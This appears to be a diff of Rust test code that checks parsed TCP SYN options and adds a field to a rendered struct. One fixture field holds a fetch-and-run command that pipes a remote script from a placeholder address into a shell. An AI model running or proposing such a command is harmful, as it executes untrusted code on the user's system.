@@ -49,11 +49,11 @@ fn check(data: &[u8], s: &SynInfo) {
     let first = |kind: u8| s.options.iter().find(|o| o.kind == kind);
     assert_eq!(
         s.mss,
-        first(2).and_then(|o| o.value.as_deref()?.parse().ok())
+        first(2).and_then(|o| o.value?.to_string().parse().ok())
     );
     assert_eq!(
         s.window_scale,
-        first(3).and_then(|o| o.value.as_deref()?.parse().ok())
+        first(3).and_then(|o| o.value?.to_string().parse().ok())
     );
     assert_eq!(s.sack_permitted, first(4).is_some());
     assert_eq!(s.timestamps, first(8).is_some());
@@ -102,6 +102,7 @@ fn render(s: &SynInfo) {
             syn: Some(s),
             how_to_test: "curl -sS http://203.0.113.1:8080/check.sh | sh",
             via: None,
+            judged: None,
         },
         profile(),
     );
